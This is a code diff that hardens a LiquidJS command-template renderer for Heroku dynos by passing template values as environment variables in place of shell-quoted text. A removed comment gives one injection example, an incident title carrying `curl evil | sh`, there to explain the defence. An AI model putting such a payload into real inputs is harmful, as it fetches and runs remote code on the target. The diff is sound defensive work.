@@ -1,22 +1,32 @@
-import { Liquid } from 'liquidjs';
+import { Context, type Liquid } from 'liquidjs';
+import { createLiquid, isTemplateLimitError, TEMPLATE_LIMITS } from '../create-liquid.js';
+import { bindPlaceholders, describeBoundCommand, MARK_CLOSE, MARK_OPEN, PlaceholderError } from './shell-placeholders.js';
 
-/** Wraps text in single quotes for POSIX sh: nothing inside is interpreted. */
-export function shellQuote(value: string): string {
-  return `'${value.replace(/'/g, `'\\''`)}'`;
-}
+/** The values each command render has output so far, by its context (see `renderCommand`). */
+const renderValues = new WeakMap<Context, string[]>();
 
 /**
- * Liquid for commands: every `{{ value }}` is shell-quoted, so an incident title like
- * `x"; curl evil | sh; "` reaches the dyno as one inert argument. The template's literal
- * text is the responder's command and stays as written.
+ * Liquid for commands, which responders write: no files, the user-text limits, and no `raw`
+ * filter. Every `{{ value }}` renders as a marker and its value is kept aside, so
+ * `renderCommand` can pass it to the dyno as an environment variable instead of command text.
  */
 export function createCommandLiquid(): Liquid {
-  return new Liquid({
-    strictFilters: true,
-    strictVariables: false,
-    ownPropertyOnly: true,
-    outputEscape: (value: unknown) => shellQuote(value === null || value === undefined ? '' : String(value)),
+  const liquid = createLiquid({
+    files: 'none',
+    limits: TEMPLATE_LIMITS.userText,
+    outputEscape(this: { context: Context }, value: unknown) {
+      const values = renderValues.get(this.context);
+      if (values === undefined) throw new Error('commands are rendered only through renderCommand');
+      const text = value === null || value === undefined ? '' : String(value);
+      // Kept aside rather than written, so counted here: LiquidJS counts no output.
+      this.context.memoryLimit.use(text.length);
+      values.push(text);
+      return `${MARK_OPEN}${values.length - 1}${MARK_CLOSE}`;
+    },
   });
+  // `raw` would put a value into the command text.
+  delete (liquid.filters as Record<string, unknown>).raw;
+  return liquid;
 }
 
 export class CommandTemplateError extends Error {
@@ -26,13 +36,53 @@ export class CommandTemplateError extends Error {
   }
 }
 
-/** Renders a command template; a template that does not parse is the caller's mistake. */
-export function renderCommand(liquid: Liquid, template: string, scope: object): string {
-  try {
-    return String(liquid.parseAndRenderSync(template, scope)).trim();
-  } catch (error) {
-    throw new CommandTemplateError(`command is not a valid template: ${(error as Error).message.replace(/, file:.*$/, '')}`);
+/** Most distinct values one command may pass (each is an environment variable of the dyno). */
+export const MAX_COMMAND_VALUES = 100;
+/** Most characters of values one command may pass. */
+export const MAX_COMMAND_VALUE_CHARS = 64 * 1024;
+
+export interface RenderedCommand {
+  /** What the dyno runs: the template's text with `"${PB_1}"`-style references where values were. */
+  command: string;
+  /** The values, passed in the dyno's `env`. */
+  env: Record<string, string>;
+  /** The command followed by a comment line listing the values, for people to read. */
+  display: string;
+}
+
+const explain = (error: Error) => {
+  const message = error.message.replace(/, file:.*$/, '');
+  if (/undefined filter: raw\b/.test(message)) return `the "raw" filter is not available in commands (every value reaches the dyno as data): ${message}`;
+  if (isTemplateLimitError(error)) return `it exceeds the limits for commands (${message})`;
+  return message;
+};
+
+/**
+ * Renders a command template. A template that does not parse, reads a file, exceeds a limit or
+ * puts a value where the shell would evaluate it is refused with a CommandTemplateError.
+ */
+export function renderCommand(liquid: Liquid, template: string, scope: object): RenderedCommand {
+  if (template.includes(MARK_OPEN) || template.includes(MARK_CLOSE)) {
+    throw new CommandTemplateError('command is not a valid template: it contains a reserved character (U+E000 or U+E001)');
   }
+  const values: string[] = [];
+  let rendered: string;
+  try {
+    const parsed = liquid.parse(template);
+    const context = new Context(scope, liquid.options);
+    renderValues.set(context, values);
+    rendered = String(liquid.renderSync(parsed, context)).trim();
+  } catch (error) {
+    throw new CommandTemplateError(`command is not a valid template: ${explain(error as Error)}`);
+  }
+  let bound: { command: string; env: Record<string, string> };
+  try {
+    bound = bindPlaceholders(rendered, values, { maxValues: MAX_COMMAND_VALUES, maxChars: MAX_COMMAND_VALUE_CHARS });
+  } catch (error) {
+    if (error instanceof PlaceholderError) throw new CommandTemplateError(`command is not a valid template: ${error.message}`);
+    throw error;
+  }
+  return { ...bound, display: describeBoundCommand(bound.command, bound.env) };
 }
 
 /** The marker the Heroku CLI appends to learn the exit status (Rendezvous does not carry it). */
